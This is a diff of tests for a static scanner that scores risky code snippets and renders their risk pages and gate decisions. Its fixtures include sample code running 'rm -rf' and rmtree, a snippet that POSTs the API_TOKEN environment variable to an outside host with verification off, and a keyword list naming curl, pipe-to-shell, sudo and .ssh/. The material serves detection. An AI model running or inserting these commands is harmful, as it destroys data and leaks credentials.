@@ -104,8 +104,7 @@ def symbol_inventory(spark, sf):
 with b(kind, name, how, value, line, reads) as (values ('view', 'p', 'loop_var', 'unknown', 2, 1), ('click', 'r', 'assign', 'response', 2, 1), ('error', 'key', 'assign', 'unknown', 3, 1), ('signup', 'y', 'assign', 'unknown', 3, 0), ('signup', 'x', 'assign', 'number', 1, 1))
 select event_id as snippet_id, case when name = 'x' then 'x' || user_id else name end as name, how as kind, b.value as value, cast(line as bigint) as line, cast(reads as bigint) as reads, reads = 0 as dead from events join b on event_type = b.kind""")
 def bindings_dead(spark, sf):
-    walked = facts.with_facts(snippets(spark, sf), ("bindings", "reads"))
-    b = digest.bindings_read(facts.unfold(walked, "bindings"), facts.unfold(walked, "reads"))
+    b = digest.bindings_of(facts.with_facts(snippets(spark, sf), ("bindings", "reads")))
     return longs(b, "line", "reads").select("snippet_id", "name", "kind", "value", "line", "reads", "dead")
 
 
@@ -119,8 +118,7 @@ n(kind, node_id, parent_id, node, own, effects, weight) as (values
 
 
 def nodes_of(spark, sf):
-    walked = facts.with_facts(snippets(spark, sf), ("calls", "env", "nodes"))
-    return digest.rollup_nodes(facts.unfold(walked, "nodes"), classify.classify(walked))
+    return digest.nodes_of(facts.with_facts(snippets(spark, sf), ("calls", "env", "nodes")))
 
 
 @query(f"with {NODES} select event_id as snippet_id, cast(node_id as bigint) as node_id, cast(parent_id as bigint) as parent_id, node as kind, cast(own as bigint) as own_effects, cast(effects as bigint) as effects, cast(weight as bigint) as weight from events join n on event_type = n.kind")
@@ -133,6 +131,27 @@ def outline_fold(spark, sf):
     return longs(digest.outline(nodes_of(spark, sf), 0), "node_id", "hidden").select("snippet_id", "node_id", "kind", "hidden")
 
 
+PREFIXES = "x(kind, node_id, prefix, label) as (values ('view', 1, '├─ ', 'import os'), ('view', 3, '   └─ ', 'print(p)'), ('click', 1, '├─ ', 'import requests'), ('purchase', 1, '├─ ', 'import subprocess'), ('error', 1, '├─ ', 'import os'), ('error', 2, '├─ ', 'key = os.environ[''API_TOKEN'']'), ('error', 3, '├─ ', 'import requests'), ('signup', 1, '├─ ', 'x{u} = {e}'), ('signup', 2, '└─ ', 'y = x{u} + 1'))"
+
+
+@query(f"with {PREFIXES} select event_id as snippet_id, cast(node_id as bigint) as node_id, prefix || replace(replace(label, '{{u}}', user_id::varchar), '{{e}}', event_id::varchar) as drawn from events join x on event_type = kind")
+def outline_prefixes(spark, sf):
+    o = digest.outline(nodes_of(spark, sf), 1).where("label not rlike '^(for |r = |open|subprocess.run|requests.post|module)'")
+    return longs(o, "node_id").select("snippet_id", "node_id", F.concat("prefix", "label").alias("drawn"))
+
+
+@query("""
+with b(kind, line, verb, target) as (values (0, 3, 'shell', 'id {k}'), (1, 3, 'shell', 'rm -rf /d{k}'), (2, 3, 'rmtree', '/data/{k}'), (3, 4, 'delete', 'f{k}'), (4, 6, 'append', 'log{k}'))
+select p_partkey as snippet_id, cast(line as bigint) as line, verb, replace(target, '{k}', p_partkey::varchar) as target, false as parsed from part join b on p_partkey % 5 = kind""")
+def broken_sources(spark, sf):
+    """Sources with a statement that doesn't parse: the others are read, at their own lines."""
+    texts = ["import os\nprint 'hello'\nos.system('id {k}')\n", "import os\nx = (\nos.system('rm -rf /d{k}')\n", "import shutil\ndef f(:\n    shutil.rmtree('/data/{k}')\n", "import os\nclass A:\n    b c\n    def g(self): os.remove('f{k}')\n", "\ntry:\n    x +\nexcept E:\n    pass\nopen('log{k}', 'a')\n"]
+    text = F.get(F.array(*map(F.lit, texts)), (F.col("p_partkey") % 5).cast("int"))
+    p = table(spark, sf, "part").select(F.col("p_partkey").alias("snippet_id"), F.replace(text, F.lit("{k}"), F.col("p_partkey").cast("string")).alias("source"))
+    rows = classify.classify_rows(classify.emissions(facts.with_facts(p, ("parsed", "calls", "env")), "facts.parsed")).where("effect is not null")
+    return longs(rows, "line").select("snippet_id", "line", "verb", "target", "parsed")
+
+
 # ---- the digest on made hits
 
 @query(f"with {MADE_HITS} select snippet_id, seq, cast(pos as bigint) as pos, cast(line as bigint) as line, symbol from hits")
@@ -236,7 +255,8 @@ def keyword_hazards(spark, sf):
     return longs(classify.classify(facts.with_facts(p)), "severity").select("snippet_id", "effect", "severity", "note")
 
 
-NEEDLES = ", ".join(f"({i}, '{n}', '{w}')" for i, (n, w) in enumerate(catalog.HAZARDS.items()))
+#: What the five texts of the query hold, in the order of the catalogue, written out.
+NEEDLES = "(0, 'rm -rf', 'recursive delete'), (2, 'sudo ', 'elevates privileges'), (6, '| sh', 'pipes downloaded content into a shell'), (8, 'curl ', 'downloads from the network'), (12, '.ssh/', 'touches SSH keys'), (15, 'pip install', 'installs packages'), (17, 'git push', 'publishes to a remote'), (18, '--force', 'forces an otherwise-refused operation')"
 
 
 @query(f"""
@@ -362,6 +382,7 @@ def command_words(spark, sf):
 
 
 BAR = " || ' ' || ".join("(" + " || ".join(f"case when mask & {1 << catalog.EFFECTS.index(e)} <> 0 then '█' else '·' end" for e in g.split()) + ")" for g in catalog.BARCODE.split("|"))
+WORD = "case band when 'check' then 'check it' when 'read' then 'read it first' else band end"
 BLOCK = "case band when 'read' then '███' when 'check' then '██ ' else '█  ' end"
 
 
@@ -420,6 +441,50 @@ def gate_decision(spark, sf):
     return d.select("seq", "decision", policy.wants_warning(F.col("band"), "check").alias("warn"))
 
 
+@query(f"""with {MADE_EVENTS}, r as (select seq, band, 'risk ' || risk || ' is over the gate of 60 — does things' as reason, 'risk ' || risk || ' is over the gate of 60 (' || {WORD} || ') — does things' as asked from feed where risk > 60)
+select seq, '{{"decision":"block","reason":"' || reason || '","hookSpecificOutput":{{"hookEventName":"PreToolUse","permissionDecision":"ask","permissionDecisionReason":"' || reason || '"}}}}' as answer,
+  '{{"action":"approve","message":"' || asked || chr(92) || 'n  line 7: run x","rule_key":"snipscan:' || band || '"}}' as directive from r""")
+def gate_answers(spark, sf):
+    """What a harness is told of the events over a gate of 60."""
+    note = F.struct(F.lit("process").alias("effect"), F.lit("caution").alias("severity"), F.lit("run").alias("verb"), F.lit("x").alias("target"), F.lit(7).alias("line"), F.lit(None).cast("string").alias("note"))
+    e = made_events(spark, sf).withColumn("notes", F.array(note))
+    return policy.directive(policy.decide(e, F.lit(60)), F.lit(60)).where("answer is not null").select("seq", "answer", "directive")
+
+
+@query(f"with {MADE_EVENTS} select seq, {WORD} || ' · risk ' || risk || ' · does things' || chr(10) || '  line 7: run x — why' as verdict from feed")
+def verdicts(spark, sf):
+    note = F.struct(F.lit("run").alias("verb"), F.lit("x").alias("target"), F.lit(7).alias("line"), F.lit("why").alias("note"))
+    return policy.verdict_text(made_events(spark, sf).withColumn("notes", F.array(note))).select("seq", "verdict")
+
+
+@query(f"with {MADE_EVENTS} select seq, cast(risk as bigint) as risk from feed where seq % 3 <> 0 order by seq desc limit 40")
+def card_index(spark, sf):
+    """The newest cards of an index, of whose lines each third is torn."""
+    row = F.to_json(F.struct("risk", "band"))
+    lines = made_events(spark, sf).select("seq", F.when(F.col("seq") % 3 == 0, F.substring(row, 1, 9)).otherwise(row).alias("value"))
+    return events.read_index(lines, 40).select("seq", F.variant_get("row", "$.risk", "bigint").alias("risk"))
+
+
+@query(f"""with {MADE_EVENTS}, r as (select *, {BLOCK} || ' ' || lpad(risk::varchar, 3, ' ') || ' ' || {BAR} || ' ' || name || ' does things' as text from feed)
+select seq, cast(0 as bigint) as part, '  1m ' || text as text from r union all select seq, 1, '     └ line 7: why' from r where band in ('check', 'read')""")
+def feed_lines(spark, sf):
+    note = F.struct(F.lit("caution").alias("severity"), F.lit("run").alias("verb"), F.lit(7).alias("line"), F.lit("why").alias("note"))
+    e = made_events(spark, sf).withColumn("notes", F.array(note))
+    return longs(events.feed_rows(e, F.col("ts") + 65_000), "part")
+
+
+@query("""
+with m(k, symbol, effect, severity, verb, target) as (values (0, 'frame.to_parquet', 'fs_write', 1, 'write', 'a{s}'), (1, 'torch.relu', 'compute', 0, 'compute', 'torch'), (2, '<path>.unlink', 'fs_delete', 2, 'delete', 'r{s}'), (3, 'mine.to_parquet', 'fs_write', 1, 'write', 'a{s}'))
+select p_partkey as snippet_id, symbol, effect, cast(severity as bigint) as severity, verb, replace(target, '{s}', p_size::varchar) as target from part join m on p_partkey % 5 = k""")
+def method_and_package(spark, sf):
+    """Callees that no exact rule names: by a telling method, by a numeric package, by the kind of value, and one that means nothing."""
+    k, size = F.col("p_partkey") % 5, F.col("p_size").cast("string")
+    canonical = F.when(k == 0, "frame.to_parquet").when(k == 1, "torch.relu").when(k == 2, "<path>.unlink").when(k == 3, "mine.to_parquet").otherwise("mine.touchy")
+    none = {"mode": "string", "named": "map<string,string>", "texts": "array<string>", "kwargs": "array<struct<name:string,value:string,path:string>>"}
+    calls = table(spark, sf, "part").select(F.col("p_partkey").alias("snippet_id"), *[F.lit(1).alias(c) for c in ("seq", "owner", "line", "col")], canonical.alias("canonical"), F.lit("x").alias("snippet"), F.when(k == 2, F.concat(F.lit("r"), size)).alias("receiver"), F.when(k != 2, F.array(F.concat(F.lit("a"), size))).otherwise(F.array().cast("array<string>")).alias("args"), *[F.lit(None).cast(t).alias(c) for c, t in none.items()])
+    return longs(classify.classify_calls(calls), "severity").select("snippet_id", "symbol", "effect", "severity", "verb", "target")
+
+
 @query(f"with {MADE_EVENTS} select seq, cast(ts as bigint) as ts, source, cast(risk as bigint) as risk, band from feed where seq % 3 <> 1")
 def feed_parse(spark, sf):
     """Events as lines of text and back: of three lines one is of a newer schema and goes, one is without a schema and stays."""
@@ -473,13 +538,29 @@ def theme_contrast(spark, sf):
     return render.theme_table(spark).select("theme", F.round(render.contrast(F.col("check"), F.col("read")), 6).alias("ratio"))
 
 
+PAGE_TEMPLATES = """
+with p(kind, head, body) as (values
+  ('view', '█   e{e} inert risk 2', '█·· ··· · ···· █· reads /data/u{u} → prints results' || chr(10) || chr(10) || 'fs_read      info     ×1' || chr(10) || 'stdout       info     ×1' || chr(10) || chr(10) || '   2 list /data/u{u}' || chr(10) || '   3 print p'),
+  ('click', '█   e{e} routine risk 38', '·█· █·· · ···· ·· calls https://api.example/{u} → writes 2 files' || chr(10) || chr(10) || 'net          notable  ×1' || chr(10) || 'fs_write     notable  ×2' || chr(10) || chr(10) || '   2 GET https://api.example/{u}' || chr(10) || '   3 write open(''out{u}.txt'', ''w'')' || chr(10) || '   3 truncate out{u}.txt'),
+  ('purchase', '██  e{e} check it risk 30', '··· ·█· · ···· ·· runs `rm -rf /tmp/u{u}`' || chr(10) || chr(10) || 'process      caution  ×1' || chr(10) || chr(10) || '   2 run rm -rf /tmp/u{u}'),
+  ('error', '███ e{e} read it first risk 82', '··· █·█ · ···· ·· reads the environment → calls https://h/{u}' || chr(10) || chr(10) || 'net          caution  ×1' || chr(10) || 'env          caution  ×1' || chr(10) || chr(10) || '   3 getenv API_TOKEN' || chr(10) || '   5 POST https://h/{u}'),
+  ('signup', '█   e{e} inert risk 0', '··· ··· · ···· ·· no side effects — 2 statements'))"""
+PAGE = PAGE_TEMPLATES + " select event_id as snippet_id, replace(replace(head || chr(10) || body, '{e}', event_id::varchar), '{u}', user_id::varchar) as page from events join p on event_type = kind"
+
+
 COLOURS = ", ".join(str((t, b, c)) for t, row in render.THEMES.items() for b, c in zip(catalog.BANDS, row, strict=True))
+CARD_PAGE = "(head || chr(10) || body)"
 
 
-@query(f"with {MADE_EVENTS}, t(theme, b, colour) as (values {COLOURS}) select seq as snippet_id, theme, '<pre style=\"color:' || colour || '\">' || name || ' &lt;' || risk || '&gt;</pre>' as html from feed join t on band = b")
+@query(f"""{PAGE_TEMPLATES}, bands(kind, band) as (values ('view', 'inert'), ('click', 'routine'), ('purchase', 'check'), ('error', 'read'), ('signup', 'inert')), t(theme, b, colour) as (values {COLOURS}),
+l(layout, wanted) as (values ('card', true), ('auto', true))
+select event_id as snippet_id, layout, theme, '<pre style="color:' || colour || '">' || replace(replace(replace({CARD_PAGE}, '{{e}}', event_id::varchar), '{{u}}', user_id::varchar), '"', '&quot;') || '</pre>' as html
+from events join p on event_type = p.kind join bands on bands.kind = p.kind join t on band = b, l where layout = 'card' or band in ('check', 'read')""")
 def contact_sheet(spark, sf):
-    e = made_events(spark, sf)
-    return render.contact_sheet(e.select(F.col("seq").alias("snippet_id"), "band", F.concat("name", F.lit(" <"), F.col("risk").cast("string"), F.lit(">")).alias("line")))
+    """Cards in every theme, as they are and where ``auto`` stands for them."""
+    d = events.dossiers(snippets(spark, sf))
+    cards = panels.sheet(d, F.concat(F.lit("e"), F.col("snippet_id").cast("string"))).where("layout = 'card' or (layout = 'auto' and band in ('check', 'read'))")
+    return render.contact_sheet(cards)
 
 
 @query(f"with {MADE_EVENTS} select source, seq as snippet_id from feed where band = 'read' qualify row_number() over (partition by source order by ts desc, seq desc) <= 3")
@@ -488,22 +569,10 @@ def card_files(spark, sf):
     return panels.keep_cards(cards, 3, "source").select("source", "snippet_id")
 
 
-PAGE = """
-with p(kind, head, body) as (values
-  ('view', '█   e{e} inert risk 2', '█·· ··· · ···· █· reads /data/u{u} → prints results' || chr(10) || chr(10) || 'fs_read      info     ×1' || chr(10) || 'stdout       info     ×1' || chr(10) || chr(10) || '   2 list /data/u{u}' || chr(10) || '   3 print p'),
-  ('click', '█   e{e} routine risk 38', '·█· █·· · ···· ·· calls https://api.example/{u} → writes 2 files' || chr(10) || chr(10) || 'net          notable  ×1' || chr(10) || 'fs_write     notable  ×2' || chr(10) || chr(10) || '   2 GET https://api.example/{u}' || chr(10) || '   3 write open(''out{u}.txt'', ''w'')' || chr(10) || '   3 truncate out{u}.txt'),
-  ('purchase', '██  e{e} check it risk 30', '··· ·█· · ···· ·· runs `rm -rf /tmp/u{u}`' || chr(10) || chr(10) || 'process      caution  ×1' || chr(10) || chr(10) || '   2 run rm -rf /tmp/u{u}'),
-  ('error', '███ e{e} read it first risk 82', '··· █·█ · ···· ·· reads the environment → calls https://h/{u}' || chr(10) || chr(10) || 'net          caution  ×1' || chr(10) || 'env          caution  ×1' || chr(10) || chr(10) || '   3 getenv API_TOKEN' || chr(10) || '   5 POST https://h/{u}'),
-  ('signup', '█   e{e} inert risk 0', '··· ··· · ···· ·· no side effects — 2 statements'))
-select event_id as snippet_id, replace(replace(head || chr(10) || body, '{e}', event_id::varchar), '{u}', user_id::varchar) as page from events join p on event_type = kind"""
-
-
 @query(PAGE)
 def pages_of_panels(spark, sf):
-    s = snippets(spark, sf)
-    hits = digest.order_hits(digest.dedup_hits(classify.classify(facts.with_facts(s))))
-    head = panels.header(events.reports(s), F.concat(F.lit("e"), F.col("snippet_id").cast("string")))
-    return panels.page(head, panels.capabilities(hits), panels.timeline(hits))
+    d = events.dossiers(snippets(spark, sf))
+    return d.select("snippet_id", panels.page(F.concat(F.lit("e"), F.col("snippet_id").cast("string")), "header", "capabilities", "timeline").alias("page"))
 
 
 CARD = "'┌' || repeat('─', 58) || '┐' || chr(10) || array_to_string(list_transform(list_concat([{0} || '  ' || word || ' · risk ' || risk, " + BAR + "], regexp_extract_all(synopsis, '(\\S.{{0,55}})(?:\\s|$)', 1)), lambda x: '│ ' || rpad(substr(x, 1, 56), 56, ' ') || ' │'), chr(10)) || chr(10) || '└' || repeat('─', 58) || '┘'"
@@ -520,18 +589,32 @@ def cards(spark, sf):
     return r.select("snippet_id", render.card(F.concat(F.lit("e"), F.col("snippet_id").cast("string"))).alias("card"), render.html_card(F.lit("snippet")).alias("html"))
 
 
-@query()
+RAMPED = "substr('▁▂▃▄▅▆▇█', least(8, length({0}) // 10 + 1), 1)"
+OUTLINE_40 = "case when length({0}) <= 64 then {0} else substr({0}, 1, 63) || '…' end"
+WHOLE = """
+with t(kind, head, sentence, caps, times, calls, imports, given, shape, marks) as (values
+  ('view', '█   snippet inert risk 2', '█·· ··· · ···· █· reads /data/u{u} → prints results', 'fs_read      info     ×1|stdout       info     ×1', '   2 list /data/u{u}|   3 print p', '  1 print|  1 os.listdir', 'os', 'p = os.listdir(''/data/u{u}'')', '3 code · 0 comment · 0 blank lines|3 statements · 0 functions · 0 classes · 1 loops · 0 branches · 2 calls · depth 1 · complexity 2', ''),
+  ('click', '█   snippet routine risk 38', '·█· █·· · ···· ·· calls https://api.example/{u} → writes 2 files', 'net          notable  ×1|fs_write     notable  ×2', '   2 GET https://api.example/{u}|   3 write open(''out{u}.txt'', ''w'')|   3 truncate out{u}.txt', '  1 open|  1 <file>.write|  1 requests.get', 'requests *', 'r = {given}', '3 code · 0 comment · 0 blank lines|3 statements · 0 functions · 0 classes · 0 loops · 0 branches · 3 calls · depth 0 · complexity 1', ''),
+  ('purchase', '██  snippet check it risk 30', '··· ·█· · ···· ·· runs `rm -rf /tmp/u{u}`', 'process      caution  ×1', '   2 run rm -rf /tmp/u{u}', '  1 subprocess.run', 'subprocess', null, '2 code · 0 comment · 0 blank lines|2 statements · 0 functions · 0 classes · 0 loops · 0 branches · 1 calls · depth 0 · complexity 1', ' !'),
+  ('error', '███ snippet read it first risk 82', '··· █·█ · ···· ·· reads the environment → calls https://h/{u}', 'net          caution  ×1|env          caution  ×1', '   3 getenv API_TOKEN|   5 POST https://h/{u}', '  1 requests.post', 'os|requests *', 'key = os.environ[''API_TOKEN'']', '4 code · 0 comment · 1 blank lines|4 statements · 0 functions · 0 classes · 0 loops · 0 branches · 1 calls · depth 0 · complexity 1', '  ! !'),
+  ('signup', '█   snippet inert risk 0', '··· ··· · ···· ·· no side effects — 2 statements', null, null, null, null, 'x{u} = {e}|y = x{u} + 1 (never read)', '2 code · 1 comment · 0 blank lines|2 statements · 0 functions · 0 classes · 0 loops · 0 branches · 0 calls · depth 0 · complexity 1', '')),
+c(kind, n, line, mark) as (values
+  ('view', 1, 'import os', '├─ '), ('view', 2, 'for p in os.listdir(''/data/u{u}''):', '└─ '), ('view', 3, '    print(p)', '   └─ '), ('click', 1, 'import requests', '├─ '), ('click', 2, 'r = requests.get(''https://api.example/{u}'')', '├─ '), ('click', 3, 'open(''out{u}.txt'', ''w'').write(r.text)', '└─ '),
+  ('purchase', 1, 'import subprocess', '├─ '), ('purchase', 2, 'subprocess.run([''rm'', ''-rf'', ''/tmp/u{u}''], check=False)', '└─ '), ('error', 1, 'import os', '├─ '), ('error', 2, '', null), ('error', 3, 'key = os.environ[''API_TOKEN'']', '├─ '), ('error', 4, 'import requests', '├─ '), ('error', 5, 'requests.post(''https://h/{u}'', data=key, verify=False)', '└─ '),
+  ('signup', 1, 'x{u} = {e}', '├─ '), ('signup', 2, '# note', null), ('signup', 3, 'y = x{u} + 1', '└─ ')),
+l as (select event_id, user_id, event_type, n, mark, replace(replace(line, '{e}', event_id::varchar), '{u}', user_id::varchar) as line from events join c on event_type = kind),
+s as (select event_id, user_id, event_type, string_agg(mark || rtrim(trim(line), ':'), chr(10) order by n) filter (mark is not null) as tree, string_agg(""" + RAMPED.format("trim(line)") + """, '' order by n) as ramp, string_agg(lpad(n::varchar, 4, ' ') || '  ' || line, chr(10) order by n) as code from l group by all),
+w as (select s.*, t.*, 'requests.get(' || chr(39) || 'https://api.example/' || user_id || chr(39) || ')' as got from s join t on event_type = kind),
+f as (select *, replace(given, '{given}', case when length(got) <= 40 then got else substr(got, 1, 39) || '…' end) as kept from w)
+select event_id as snippet_id, array_to_string(list_filter([
+  replace(head || chr(10) || sentence, '{u}', user_id::varchar), tree, caps, times, calls, imports, kept, shape, ramp || chr(10) || marks, code], lambda x: x is not null), chr(10) || chr(10)) as raw from f"""
+WHOLE = f"select snippet_id, replace(replace(replace(raw, '|', chr(10)), '{{e}}', snippet_id::varchar), '{{u}}', user_id::varchar) as page from ({WHOLE}) join events on event_id = snippet_id"
+
+
+@query(WHOLE)
 def whole_pages(spark, sf):
-    """All panels of each snippet."""
-    s = snippets(spark, sf)
-    walked = facts.with_facts(s, ("calls", "env", "roots", "imports", "bindings", "reads", "nodes"))
-    rows = classify.classify_rows(classify.emissions(walked, "facts.roots"))
-    hits = digest.order_hits(digest.dedup_hits(rows.where("effect is not null")))
-    read = digest.bindings_read(facts.unfold(walked, "bindings"), facts.unfold(walked, "reads"))
-    return panels.page(
-        panels.header(events.reports(s), F.lit("snippet")), panels.capabilities(hits), panels.timeline(hits), panels.outline(digest.rollup_nodes(facts.unfold(walked, "nodes"), hits)),
-        panels.symbols(digest.symbols(rows)), panels.imports(classify.third_party(facts.unfold(walked, "imports"))), panels.bindings(read),
-    )
+    """Everything that a dashboard shows of each snippet."""
+    return events.dossiers(snippets(spark, sf)).select("snippet_id", panels.layout(F.lit("snippet"), "dashboard").alias("page"))
 
 
 @query("select event_id, substr('▁▂▃▄▅▆▇█', cast(floor(x * 7 + 0.5) as int) + 1, 1) as cell, repeat('█', cast(floor(x * 10 + 0.5) as int)) || repeat('░', 10 - cast(floor(x * 10 + 0.5) as int)) as bar from (select event_id, least(1.0, greatest(0.0, (event_id % 130 - 10) / 100.0)) as x from events)")
